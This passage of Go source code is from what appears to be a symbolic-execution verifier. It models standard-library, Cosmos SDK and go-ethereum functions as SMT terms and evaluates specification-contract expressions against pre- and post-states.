		return one(st, boolVal(tOr(tEq(a, b), tAnd(tEq(tApp("slen64", a), bvLit(0, 64)), tEq(tApp("slen64", b), bvLit(0, 64))))))
	}
	intrinsicsByName["strings.Contains"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		if lit, ok := e.litContent(e.term(st, args[1])); ok && lit == "/" {
			return one(st, boolVal(tNot(e.noslash(e.term(st, args[0])))))
		}
		return e.pureCall(st, "strings.Contains", args, rt)
	}
	intrinsicsByName["strings.Split"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return e.stringsSplit(st, args, rt)
	}
	hasAffix := func(suffix bool) intrinsic {
		return func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			a, b := e.byteSegs(st, args[0]), e.byteSegs(st, args[1])
			// literal affix against a structured value with constant-length tail/head
			if lit, ok := segsAllLit(b); ok {
				if la, okA := segsConstLen(a); okA && la >= len(lit) {
					var sub []Seg
					var ok2 bool
					if suffix {
						sub, ok2 = segsSub(a, la-len(lit), la)
					} else {
						sub, ok2 = segsSub(a, 0, len(lit))
					}
					if ok2 {
						if f, ok3 := e.segsEqual(sub, litSegs(lit), false); ok3 {
							return one(st, boolVal(f))
						}
					}
				}
			}
			name := "bytes_hasprefix"
			if suffix {
				name = "bytes_hassuffix"
			}
			return one(st, boolVal(e.D.uf(name, []string{sStr, sStr}, sBool, e.term(st, args[0]), e.term(st, args[1]))))
		}
	}
	intrinsicsByName["bytes.HasSuffix"] = hasAffix(true)
	intrinsicsByName["bytes.HasPrefix"] = hasAffix(false)
	intrinsicsByName["strings.HasSuffix"] = hasAffix(true)
	intrinsicsByName["strings.HasPrefix"] = hasAffix(false)
	intrinsicsByName["strings.SplitN"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// SplitN(s, sep, n): the first n-1 separators split, the rest stays in the last part
		nv, _, okN := bvLitVal(e.term(st, args[2]))
		sep, okS := e.litContent(e.term(st, args[1]))
		s := args[0]
		strT := types.Typ[types.String]
		if okN && okS && len(sep) == 1 && s.Segs != nil && nv >= 2 && nv <= 16 {
			var toks [][]Seg
			cur := []Seg{}
			exact := true
			rest := false
			for _, sg := range s.Segs {
				if rest {
					cur = append(cur, sg)
					continue
				}
				switch sg.K {
				case "lit":
					lit := sg.Lit
					for len(lit) > 0 {
						j := strings.Index(lit, sep)
						if j < 0 || rest {
							cur = concatSegs(cur, litSegs(lit))
							lit = ""
							break
						}
						cur = concatSegs(cur, litSegs(lit[:j]))
						toks = append(toks, cur)
						cur = []Seg{}
						lit = lit[j+1:]
						if uint64(len(toks)) == nv-1 {
							rest = true
							cur = concatSegs(cur, litSegs(lit))
							lit = ""
						}
					}
				case "dec":
					if sep[0] >= '0' && sep[0] <= '9' || (sg.Sgn && sep[0] == '-') {
						exact = false
					}
					cur = append(cur, sg)
				case "any":
					if !(sep == "/" && e.knownNoSlash(st, sg.T)) {
						exact = false
					}
					cur = append(cur, sg)
				default:
					exact = false
					cur = append(cur, sg)
				}
			}
			toks = append(toks, cur)
			if exact && rest {
				r := Val{K: kArr, Typ: rt, Sort: e.sortOfT(rt)}
				for _, t := range toks {
					r.Elems = append(r.Elems, Val{K: kTerm, Typ: strT, Sort: sStr, T: e.segsTerm(t), Segs: t})
				}
				return one(st, r)
			}
		}
		ss := e.sortOfT(rt)
		res := e.D.uf("strsplitn", []string{sStr, sStr, bvSort(64)}, ss, e.term(st, s), e.term(st, args[1]), e.term(st, args[2]))
		st.define(tApp("bvuge", tApp("len_"+ss, res), bvLit(1, 64)))
		return one(st, e.wrapTerm(rt, res))
	}
	intrinsicsByName["crypto/sha256.Sum256"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["sha256.Sum256: deterministic function with 32-byte result"]++
		a := e.term(st, args[0])
		r := e.D.uf("sha256", []string{sStr}, sStr, a)
		st.define(tEq(tApp("slen64", r), bvLit(32, 64)))
		st.define(tNot(tEq(r, "nilStr")))
		return one(st, e.wrapTerm(rt, r))
	}
	intrinsicsByName["github.com/tendermint/tendermint/crypto/tmhash.Sum"] = intrinsicsByName["crypto/sha256.Sum256"]
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.Uint64ToBigEndian"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		segs := []Seg{{K: "be64", T: e.term(st, args[0])}}
		return one(st, Val{K: kTerm, Typ: rt, Sort: sStr, T: e.segsTerm(segs), Segs: segs})
	}
	be2u := func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		a := args[len(args)-1]
		if len(a.Segs) == 1 && a.Segs[0].K == "be64" {
			return one(st, termVal(types.Typ[types.Uint64], bvSort(64), a.Segs[0].T))
		}
		if len(a.Segs) >= 1 {
			if sub, ok := segsSub(a.Segs, 0, 8); ok && len(sub) == 1 && sub[0].K == "be64" {
				return one(st, termVal(types.Typ[types.Uint64], bvSort(64), sub[0].T))
			}
		}
		t := e.term(st, a)
		r := e.D.uf("be2u64", []string{sStr}, bvSort(64), t)
		return one(st, termVal(types.Typ[types.Uint64], bvSort(64), r))
	}
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.BigEndianToUint64"] = be2u
	intrinsicsByName["(encoding/binary.bigEndian).Uint64"] = be2u

	intrinsicsByName["(*github.com/tharsis/ethermint/x/evm/types.MsgEthereumTxResponse).Failed"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		p := e.asPointer(st, args[0], c.Pos())
		r := e.load(st, p)
		stt, _ := r.Typ.Underlying().(*types.Struct)
		for i := 0; stt != nil && i < stt.NumFields(); i++ {
			if stt.Field(i).Name() == "VmError" {
				f := e.field(st, r, i)
				return one(st, boolVal(tNot(tEq(e.lenOf(st, f), bvLit(0, 64)))))
			}
		}
		return e.havocCall(st, "Failed", args, rt)
	}
	fixedBytes := func(name string, n uint64) intrinsic {
		return func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
			outs := e.pureCall(st, name, args, rt)
			if len(outs) == 1 && outs[0].res.K == kTerm {
				st.define(tEq(tApp("slen64", outs[0].res.T), bvLit(n, 64)))
				st.define(tNot(tEq(outs[0].res.T, "nilStr")))
			}
			return outs
		}
	}
	intrinsicsByName["(github.com/ethereum/go-ethereum/common.Address).Bytes"] = fixedBytes("(github.com/ethereum/go-ethereum/common.Address).Bytes", 20)
	intrinsicsByName["(github.com/ethereum/go-ethereum/common.Hash).Bytes"] = fixedBytes("(github.com/ethereum/go-ethereum/common.Hash).Bytes", 32)
	intrinsicsByName["github.com/cosmos/cosmos-sdk/types.NewIntFromBigInt"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// *big.Int -> sdk.Int (mathematical integers; nil maps to the zero Int in the SDK)
		t := e.term(st, args[0])
		s := e.sortOfT(args[0].Typ)
		return one(st, Val{K: kTerm, Typ: rt, Sort: sInt, T: tIte(tEq(t, "none_"+s), "0", tApp("val_"+s, t))})
	}
	// go-ethereum BytesToBloom panics ("bloom bytes too big") on more than 256 bytes; otherwise a pure function
	intrinsicsByName["github.com/ethereum/go-ethereum/core/types.BytesToBloom"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		p := token.NoPos
		if c != nil {
			p = c.Pos()
		}
		e.safety(st, tApp("bvule", tApp("slen64", e.term(st, args[0])), bvLit(256, 64)), "bloom-bytes-too-big", p)
		return e.pureCall(st, "github.com/ethereum/go-ethereum/core/types.BytesToBloom", args, rt)
	}
	// ---- time: instants as mathematical nanoseconds, durations as int64 ----
	sbv2int := func(t string) string {
		return fmt.Sprintf("(ite (bvslt %s (_ bv0 64)) (- (bv2nat (bvneg %s))) (bv2nat %s))", t, t, t)
	}
	intrinsicsByName["(time.Time).Add"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.D.declSort("Time")
		e.notes["time.Time.Add: mathematical (no saturation at the ends of the representable range)"]++
		return one(st, Val{K: kTerm, Typ: args[0].Typ, Sort: "Time", T: tApp("+", e.term(st, args[0]), sbv2int(e.term(st, args[1])))})
	}
	intrinsicsByName["(time.Time).After"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp(">", e.term(st, args[0]), e.term(st, args[1]))))
	}
	intrinsicsByName["(time.Time).Before"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tApp("<", e.term(st, args[0]), e.term(st, args[1]))))
	}
	intrinsicsByName["(time.Time).Equal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, boolVal(tEq(e.term(st, args[0]), e.term(st, args[1]))))
	}
	// ---- codec ----
	const cdc = "(github.com/cosmos/cosmos-sdk/codec.BinaryCodec)."
	intrinsicsByName[cdc+"MustMarshal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		return one(st, e.marshal(st, args[1]))
	}
	intrinsicsByName[cdc+"Marshal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		er := termVal(errType, sIface, e.D.fresh("merr", sIface))
		return one(st, Val{K: kTuple, Elems: []Val{e.marshal(st, args[1]), er}})
	}
	intrinsicsByName[cdc+"UnmarshalInterface"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		// UnmarshalInterface(bz, &ifaceVar): a deterministic partial function of the bytes; result non-nil on success
		e.trusted["protobuf Any codec: UnmarshalInterface is a deterministic partial function of the bytes; non-nil value on success"]++
		target := args[2]
		if target.K == kIface {
			target = *target.Inner
		}
		er := e.D.fresh("uierr", sIface)
		if target.K == kPtr {
			cur := e.load(st, target.Ptr)
			name := "spec_unmarshalIface"
			bz := e.term(st, args[1])
			u := e.D.uf(name, []string{sStr}, sIface, bz)
			okf := e.D.uf(name+"_ok", []string{sStr}, sBool, bz)
			st.define(tEq(tEq(er, "nilI"), okf))
			st.define(tImplies(okf, tNot(tEq(u, "nilI"))))
			e.store(st, target.Ptr, e.wrapTerm(cur.Typ, tIte(okf, u, "nilI")))
		}
		return one(st, termVal(errType, sIface, er))
	}
	intrinsicsByName[cdc+"MarshalInterface"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.trusted["protobuf Any codec: MarshalInterface is deterministic and UnmarshalInterface(MarshalInterface(x)) == x"]++
		x := args[1]
		xt := e.term(st, x)
		name := "spec_unmarshalIface"
		m := e.D.uf("marshalIface", []string{sIface}, sStr, xt)
		u := e.D.uf(name, []string{sStr}, sIface, m)
		okf := e.D.uf(name+"_ok", []string{sStr}, sBool, m)
		er := e.D.fresh("mierr", sIface)
		st.define(tImplies(tEq(er, "nilI"), tAnd(tEq(u, xt), okf, tNot(tEq(m, "nilStr")))))
		// values that came out of a protobuf Any of a registered type can always be packed again
		st.define(tImplies(e.D.uf("spec_marshalable", []string{sIface}, sBool, xt), tEq(er, "nilI")))
		return one(st, Val{K: kTuple, Elems: []Val{e.wrapTerm(bytesType, m), termVal(errType, sIface, er)}})
	}
	intrinsicsByName[cdc+"MustUnmarshal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.unmarshalInto(st, args[1], args[2])
		return one(st, Val{K: kUnit})
	}
	intrinsicsByName[cdc+"Unmarshal"] = func(e *Env, st *State, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
		e.unmarshalInto(st, args[1], args[2])
		return one(st, termVal(errType, sIface, e.D.fresh("uerr", sIface)))
	}
}

func ifaceShortName(t types.Type) string {
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name()
	}
	return smtSym(t.String())
}

func (e *Env) marshal(st *State, v Val) Val {
	e.trusted["protobuf codec: Marshal is a deterministic function, Unmarshal(Marshal(x)) == x"]++
	inner := v
	if v.K == kIface {
		inner = *v.Inner
	}
	if inner.K == kPtr {
		inner = e.load(st, inner.Ptr)
	}
	s := e.sortOfT(inner.Typ)
	it := e.term(st, inner)
	m := e.D.uf("spec_pbmarshal_"+ifaceShortName(inner.Typ), []string{s}, sStr, it)
	u := e.D.uf("spec_pbunmarshal_"+ifaceShortName(inner.Typ), []string{sStr}, s, m)
	st.define(tEq(u, it))
	st.define(tNot(tEq(m, "nilStr")))
	return e.wrapTerm(bytesType, m)
}

func (e *Env) unmarshalInto(st *State, bz Val, target Val) {
	e.trusted["protobuf codec: Marshal is a deterministic function, Unmarshal(Marshal(x)) == x"]++
	inner := target
	if target.K == kIface {
		inner = *target.Inner
	}
	if inner.K != kPtr {
		e.notes["Unmarshal into an untracked target: result havocked"]++
		return
	}
	cur := e.load(st, inner.Ptr)
	s := e.sortOfT(cur.Typ)
	ct, zt := e.term(st, cur), e.term(st, e.zero(st, cur.Typ))
	var u string
	if ct == zt {
		u = e.D.uf("spec_pbunmarshal_"+ifaceShortName(cur.Typ), []string{sStr}, s, e.term(st, bz))
	} else {
		// generated Unmarshal methods do not reset the target (ProtoCodec.Unmarshal calls msg.Unmarshal directly):
		// repeated fields are appended to, so decoding into a used value is a function of the old value too
		e.trusted["protobuf codec: Unmarshal into a non-zero value merges (a function of the old value and the bytes)"]++
		u = e.D.uf("spec_pbmerge_"+ifaceShortName(cur.Typ), []string{s, sStr}, s, ct, e.term(st, bz))
	}
	e.store(st, inner.Ptr, e.wrapTerm(cur.Typ, u))
}

// knownNoSlash: the path condition contains noslash(t) (e.g. from a requires clause).
func (e *Env) knownNoSlash(st *State, t string) bool {
	want := e.noslash(t)
	for _, p := range st.pc {
		if p == want || strings.Contains(p, want) && strings.HasPrefix(p, "(and ") {
			return true
		}
	}
	for _, p := range st.defs {
		if p == want {
			return true
		}
	}
	return false
}

// iterHavoc puts the iterator at an arbitrary position of its key range.
func (e *Env) iterHavoc(st *State, it *IterRef) {
	it.Valid = e.D.fresh("it_valid", sBool)
	suffix := e.D.fresh("it_suffix", sStr)
	segs := concatSegs(it.Prefix, []Seg{{K: "any", T: suffix}})
	// Key() returns the key relative to the store view the iterator was created on
	rel := segs
	if it.Store != nil && len(it.Store.Prefix) > 0 {
		full := concatSegs(it.Prefix, []Seg{{K: "any", T: suffix}})
		segs = full
		// strip the store's own prefix for the visible key
		if n, ok := segsConstLen(it.Store.Prefix); ok {
			if sub, ok2 := segsSuffix(full, n); ok2 {
				rel = sub
			}
		}
	}
	full := e.segsTerm(segs)
	it.Key = e.segsTerm(rel)
	it.KeySegs = rel
	m := e.readComp(st, it.Store.World, it.Store.Comp)
	it.Val = fmt.Sprintf("(select %s %s)", m, full)
	st.define(tImplies(it.Valid, tNot(tEq(it.Val, "nilStr"))))
}

// sprintf models fmt.Sprintf for literal formats with %s %d %v %x.
func (e *Env) sprintf(st *State, args []Val) Val {
	strT := types.Typ[types.String]
	format, ok := e.litContent(e.term(st, args[0]))
	if !ok {
		return e.wrapTerm(strT, e.D.fresh("sprintf", sStr))
	}
	var va []Val
	if len(args) > 1 {
		if args[1].K == kArr {
			va = args[1].Elems
		} else {
			return e.wrapTerm(strT, e.D.fresh("sprintf", sStr))
		}
	}
	var segs []Seg
	ai := 0
	lit := strings.Builder{}
	flush := func() {
		if lit.Len() > 0 {
			segs = concatSegs(segs, litSegs(lit.String()))
			lit.Reset()
		}
	}
	for i := 0; i < len(format); i++ {
		ch := format[i]
		if ch != '%' {
			lit.WriteByte(ch)
			continue
		}
		if i+1 >= len(format) {
			return e.wrapTerm(strT, e.D.fresh("sprintf", sStr))
		}
		i++
		verb := format[i]
		if verb == '%' {
			lit.WriteByte('%')
			continue
		}
		if ai >= len(va) {
			return e.wrapTerm(strT, e.D.fresh("sprintf", sStr))
		}
		a := va[ai]
		ai++
		flush()
		segs = concatSegs(segs, e.fmtArg(st, a, verb))
	}
	flush()
	if segs == nil {
		segs = []Seg{}
	}
	return Val{K: kTerm, Typ: strT, Sort: sStr, T: e.segsTerm(segs), Segs: segs}
}

func (e *Env) fmtArg(st *State, a Val, verb byte) []Seg {
	inner := a
	if a.K == kIface && a.Inner != nil {
		inner = *a.Inner
	}
	opaque := func() []Seg {
		t := "fmtarg"
		var term string
		if inner.K == kTerm || inner.K == kRecord {
			s := e.sortOfT(inner.Typ)
			term = e.D.uf(fmt.Sprintf("fmt_%c_%s", verb, mangleSort(s)), []string{s}, sStr, e.term(st, inner))
		} else {
			term = e.D.fresh(t, sStr)
		}
		return []Seg{{K: "any", T: term}}
	}
	if inner.Typ == nil {
		return opaque()
	}
	s := e.sortOfT(inner.Typ)
	switch {
	case s == sStr && (verb == 's' || (verb == 'v' && isStringType(inner.Typ))):
		return e.byteSegs(st, inner)
	case strings.HasPrefix(s, "(_ BitVec") && (verb == 'd' || verb == 'v'):
		return []Seg{{K: "dec", T: e.term(st, inner), W: bvWidth(s), Sgn: isSigned(inner.Typ)}}
	case verb == 's' || verb == 'v':
		// Stringer?
		if fn := e.stringerOf(inner.Typ); fn != nil {
			rv := inner
			outs := e.dispatch(st.clone(), fn, []Val{rv}, nil, types.Typ[types.String], 0, nil)
			if len(outs) == 1 && outs[0].st.panics == "" {
				// adopt definitional facts
				for _, d := range outs[0].st.defs[len(st.defs):] {
					st.defs = append(st.defs, d)
				}
				for id, cv := range outs[0].st.cells {
					if _, ok := st.cells[id]; !ok {
						st.cells[id] = cv
					}
				}
				return segsOf(outs[0].res)
			}
		}
	}
	return opaque()
}

func isStringType(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

func (e *Env) stringerOf(t types.Type) *ssa.Function {
	for _, T := range []types.Type{t} {
		ms := e.P.Prog.MethodSets.MethodSet(T)
		for i := 0; i < ms.Len(); i++ {
			if ms.At(i).Obj().Name() == "String" {
				fn := e.P.Prog.MethodValue(ms.At(i))
				if fn != nil && isTeleport(fn) && fn.Signature.Params().Len() == 0 {
					return fn
				}
			}
		}
	}
	return nil
}

// stringsSplit models strings.Split(s, "/") on structured strings.
func (e *Env) stringsSplit(st *State, args []Val, rt types.Type) []Out {
	sep, ok := e.litContent(e.term(st, args[1]))
	s := args[0]
	strT := types.Typ[types.String]
	if ok && len(sep) == 1 && s.Segs != nil {
		sepByte := sep[0]
		// tokenise: only when every variable piece is known to be free of '/' this is exact;
		// the noslash facts are assumed through define-hypotheses recorded as path facts by callers.
		var toks [][]Seg
		cur := []Seg{}
		exact := true
		var sumTerms []string
		for _, sg := range s.Segs {
			switch sg.K {
			case "lit":
				parts := strings.Split(sg.Lit, sep)
				for i, p := range parts {
					if i > 0 {
						toks = append(toks, cur)
						cur = []Seg{}
					}
					cur = concatSegs(cur, litSegs(p))
				}
			case "dec":
				if sepByte >= '0' && sepByte <= '9' || (sg.Sgn && sepByte == '-') {
					exact = false
				}
				cur = append(cur, sg)
			case "any":
				// exact only when the piece is known to be free of the separator
				if sepByte == '/' && e.knownNoSlash(st, sg.T) {
					cur = append(cur, sg)
				} else {
					exact = false
					cur = append(cur, sg)
				}
			case "be64":
				// raw bytes may contain '/': the number of parts grows by one per 0x2F byte
				for k := 0; k < 8; k++ {
					hi := 63 - 8*k
					sumTerms = append(sumTerms, tIte(tEq(fmt.Sprintf("((_ extract %d %d) %s)", hi, hi-7, sg.T), bvLit(uint64(sepByte), 8)), bvLit(1, 64), bvLit(0, 64)))
				}
				cur = append(cur, sg)
			default:
				exact = false
				cur = append(cur, sg)
			}
		}
		toks = append(toks, cur)
		if exact {
			r := Val{K: kArr, Typ: rt, Sort: e.sortOfT(rt)}
			for _, t := range toks {
				r.Elems = append(r.Elems, Val{K: kTerm, Typ: strT, Sort: sStr, T: e.segsTerm(t), Segs: t})
			}
			if len(sumTerms) == 0 {
				return one(st, r)
			}
			// raw bytes may equal the separator: case split.
			// (A) none does: the parts are exactly the tokens; (B) some do: more parts, contents unknown.
			extra := sumTerms[0]
			for _, t := range sumTerms[1:] {
				extra = tApp("bvadd", extra, t)
			}
			stA := st.clone()
			stA.assume(tEq(extra, bvLit(0, 64)))
			ss := e.sortOfT(rt)
			res := e.D.fresh("split", ss)
			n := tApp("bvadd", bvLit(uint64(len(toks)), 64), extra)
			st.assume(tNot(tEq(extra, bvLit(0, 64))))
			st.define(tEq(tApp("len_"+ss, res), n))
			var outs []Out
			if !stA.dead {
				outs = append(outs, Out{st: stA, res: r})
			}
			if !st.dead {
				outs = append(outs, Out{st: st, res: e.wrapTerm(rt, res)})
			}
			return outs
		}
	}
	// opaque: at least one part
	ss := e.sortOfT(rt)
	res := e.D.uf("strsplit", []string{sStr, sStr}, ss, e.term(st, s), e.term(st, args[1]))
	st.define(tApp("bvuge", tApp("len_"+ss, res), bvLit(1, 64)))
	st.define(tApp("bvult", tApp("len_"+ss, res), bvLit(1<<40, 64)))
	return one(st, e.wrapTerm(rt, res))
}

type splitRec struct {
	toks  []Val
	extra string
}

var _ = strconv.Itoa
