package main

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"strconv"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// cenv evaluates contract expressions against a pre ("old") and a post state.
type cenv struct {
	e       *Env
	pre     *State
	post    *State
	vars    map[string]Val
	ct      *Contract
	file    *ContractFile
	inOld   bool
	bound   map[string]Val // quantifier-bound variables
	depth   int
	applied bool // the contract is being applied at a call site (not verified)
}

const sUntyped = "untyped-int"

func (c *cenv) st() *State {
	if c.inOld && c.pre != nil {
		return c.pre
	}
	return c.post
}

func (c *cenv) errf(format string, a ...interface{}) Val {
	name := ""
	if c.ct != nil {
		name = c.ct.Key
	}
	c.e.fail("contract %s: %s", name, fmt.Sprintf(format, a...))
	return termVal(types.Typ[types.Bool], sBool, "true")
}

// evalBool evaluates a clause to a Bool term.
func (c *cenv) evalBool(x ast.Expr) string {
	v := c.eval(x)
	if c.e.err != nil {
		return "true"
	}
	if v.K != kTerm || (v.Sort != sBool && c.e.sortOfT(v.Typ) != sBool) {
		c.errf("clause is not boolean: %s", exprString(x))
		return "true"
	}
	return v.T
}

func exprString(x ast.Expr) string {
	var b strings.Builder
	writeExpr(&b, x)
	return b.String()
}

func writeExpr(b *strings.Builder, x ast.Expr) {
	switch n := x.(type) {
	case *ast.Ident:
		b.WriteString(n.Name)
	case *ast.SelectorExpr:
		writeExpr(b, n.X)
		b.WriteString("." + n.Sel.Name)
	case *ast.CallExpr:
		writeExpr(b, n.Fun)
		b.WriteString("(")
		for i, a := range n.Args {
			if i > 0 {
				b.WriteString(", ")
			}
			writeExpr(b, a)
		}
		b.WriteString(")")
	case *ast.BasicLit:
		b.WriteString(n.Value)
	case *ast.BinaryExpr:
		writeExpr(b, n.X)
		b.WriteString(" " + n.Op.String() + " ")
		writeExpr(b, n.Y)
	case *ast.UnaryExpr:
		b.WriteString(n.Op.String())
		writeExpr(b, n.X)
	case *ast.ParenExpr:
		b.WriteString("(")
		writeExpr(b, n.X)
		b.WriteString(")")
	default:
		fmt.Fprintf(b, "<%T>", x)
	}
}

func (c *cenv) lookupVar(name string) (Val, bool) {
	if v, ok := c.bound[name]; ok {
		return v, true
	}
	if v, ok := c.vars[name]; ok {
		return v, true
	}
	if c.ct != nil {
		if ex, ok := c.ct.Lets[name]; ok {
			return c.eval(ex), true
		}
	}
	return Val{}, false
}

func (c *cenv) eval(x ast.Expr) Val {
	e := c.e
	if e.err != nil {
		return termVal(types.Typ[types.Bool], sBool, "true")
	}
	// evaluating a specification never generates obligations nor assumes safety conditions
	e.specMode++
	defer func() { e.specMode-- }()
	switch n := x.(type) {
	case *ast.ParenExpr:
		return c.eval(n.X)
	case *ast.Ident:
		switch n.Name {
		case "true", "false":
			return termVal(types.Typ[types.Bool], sBool, n.Name)
		case "nil":
			return Val{K: kTerm, Sort: "untyped-nil", T: "nil"}
		}
		if v, ok := c.lookupVar(n.Name); ok {
			return v
		}
		// package-level object
		if c.file != nil {
			if obj := c.file.Pkg.Scope().Lookup(n.Name); obj != nil {
				return c.objectVal(obj, c.file.PkgPath)
			}
		}
		return c.errf("unknown identifier %s", n.Name)
	case *ast.BasicLit:
		switch n.Kind {
		case token.INT:
			return Val{K: kTerm, Sort: sUntyped, T: n.Value}
		case token.STRING:
			s, err := strconv.Unquote(n.Value)
			if err != nil {
				return c.errf("bad string literal %s", n.Value)
			}
			return Val{K: kTerm, Typ: types.Typ[types.String], Sort: sStr, T: e.D.strLit(s), Segs: litSegs(s)}
		case token.CHAR:
			s, _ := strconv.Unquote(n.Value)
			return termVal(types.Typ[types.Uint8], bvSort(8), bvLit(uint64(s[0]), 8))
		}
		return c.errf("unsupported literal %s", n.Value)
	case *ast.SelectorExpr:
		// package-qualified?
		if id, ok := n.X.(*ast.Ident); ok {
			if _, isVar := c.lookupVar(id.Name); !isVar {
				if pp := c.pkgPath(id.Name); pp != "" {
					sp := e.P.SSA[pp]
					if sp != nil {
						if obj := sp.Pkg.Scope().Lookup(n.Sel.Name); obj != nil {
							return c.objectVal(obj, pp)
						}
					}
					// not loaded as SSA: search imports
					if tp := c.typesPkg(pp); tp != nil {
						if obj := tp.Scope().Lookup(n.Sel.Name); obj != nil {
							return c.objectVal(obj, pp)
						}
					}
					return c.errf("unknown object %s.%s", id.Name, n.Sel.Name)
				}
			}
		}
		base := c.eval(n.X)
		return c.selectField(base, n.Sel.Name)
	case *ast.StarExpr:
		v := c.eval(n.X)
		p := e.asPointer(c.st(), v, token.NoPos)
		return e.load(c.st(), p)
	case *ast.UnaryExpr:
		v := c.eval(n.X)
		switch n.Op {
		case token.NOT:
			return termVal(types.Typ[types.Bool], sBool, tNot(v.T))
		case token.SUB:
			if v.Sort == sUntyped {
				return Val{K: kTerm, Sort: sUntyped, T: "-" + v.T}
			}
			if e.sortOfT(v.Typ) == sInt {
				return termVal(v.Typ, sInt, tApp("-", v.T))
			}
			return termVal(v.Typ, v.Sort, tApp("bvneg", v.T))
		case token.AND:
			// address-of a value: a temporary read-only cell
			cell := e.newCell(c.st(), v)
			return Val{K: kPtr, Typ: types.NewPointer(v.Typ), Ptr: &Pointer{Cell: cell, RO: true}}
		}
		return c.errf("unsupported unary %s", n.Op)
	case *ast.BinaryExpr:
		return c.binary(n)
	case *ast.IndexExpr:
		base := c.deref(c.eval(n.X))
		idx := c.eval(n.Index)
		if base.Typ == nil && strings.HasPrefix(base.Sort, "(Array ") {
			// spec-level SMT array (world components such as bank): a[i]
			parts := sexprSplit(base.Sort[1 : len(base.Sort)-1])
			if len(parts) == 3 {
				it := e.term(c.st(), idx)
				r := Val{K: kTerm, Sort: parts[2], T: fmt.Sprintf("(select %s %s)", base.T, it)}
				if parts[2] == sInt {
					r.Typ = mathIntType()
				}
				return r
			}
		}
		if _, ok := base.Typ.Underlying().(*types.Map); ok {
			ms := e.sortOfT(base.Typ)
			mp := base.Typ.Underlying().(*types.Map)
			k := c.coerce(idx, mp.Key())
			mt, kt := e.term(c.st(), base), e.term(c.st(), k)
			// Go semantics: the element's zero value when the key is absent (same term shape as the executor's lookup)
			has := fmt.Sprintf("(select (dom_%s %s) %s)", ms, mt, kt)
			val := fmt.Sprintf("(select (val_%s %s) %s)", ms, mt, kt)
			zv := e.term(c.st(), e.zero(c.st(), mp.Elem()))
			return e.wrapTerm(mp.Elem(), tIte(has, val, zv))
		}
		it := c.coerce(idx, types.Typ[types.Int])
		save := e.specMode
		e.specMode++
		r := e.index(c.st(), base, e.toBV64(c.st(), it), token.NoPos)
		e.specMode = save
		return r
	case *ast.CallExpr:
		return c.call(n)
	case *ast.CompositeLit:
		return c.composite(n)
	case *ast.FuncLit:
		return c.errf("function literal outside quantifier")
	}
	return c.errf("unsupported expression %T", x)
}

func (c *cenv) typesPkg(path string) *types.Package {
	if c.file == nil {
		return nil
	}
	var find func(p *types.Package, d int) *types.Package
	seen := map[*types.Package]bool{}
	find = func(p *types.Package, d int) *types.Package {
		if p.Path() == path {
			return p
		}
		if d > 6 || seen[p] {
			return nil
		}
		seen[p] = true
		for _, i := range p.Imports() {
			if r := find(i, d+1); r != nil {
				return r
			}
		}
		return nil
	}
	return find(c.file.Pkg, 0)
}

func (c *cenv) pkgPath(alias string) string {
	if c.file == nil {
		return ""
	}
	return c.e.Cx.resolveAlias(c.file, alias)
}

func (c *cenv) deref(v Val) Val {
	if v.K == kPtr {
		return c.e.load(c.st(), v.Ptr)
	}
	if v.K == kIface && v.Inner != nil {
		return c.deref(*v.Inner)
	}
	if v.K == kTerm && v.Typ != nil {
		if _, ok := v.Typ.Underlying().(*types.Pointer); ok {
			p := c.e.asPointer(c.st(), v, token.NoPos)
			return c.e.load(c.st(), p)
		}
	}
	return v
}

func (c *cenv) selectField(base Val, name string) Val {
	e := c.e
	v := c.deref(base)
	if v.Typ == nil {
		return c.errf("selector .%s on untyped value", name)
	}
	if st, ok := v.Typ.Underlying().(*types.Struct); ok {
		for i := 0; i < st.NumFields(); i++ {
			if st.Field(i).Name() == name {
				return e.field(c.st(), v, i)
			}
		}
		// promoted through embedded fields (one level)
		for i := 0; i < st.NumFields(); i++ {
			f := st.Field(i)
			if f.Embedded() {
				inner := c.deref(e.field(c.st(), v, i))
				if is, ok := inner.Typ.Underlying().(*types.Struct); ok {
					for j := 0; j < is.NumFields(); j++ {
						if is.Field(j).Name() == name {
							return e.field(c.st(), inner, j)
						}
					}
				}
			}
		}
	}
	return c.errf("no field %s in %s", name, v.Typ)
}

func (c *cenv) objectVal(obj types.Object, pkgPath string) Val {
	e := c.e
	switch o := obj.(type) {
	case *types.Const:
		return e.constFromValue(c.st(), o.Type(), o.Val())
	case *types.Var:
		if sp := e.P.SSA[pkgPath]; sp != nil {
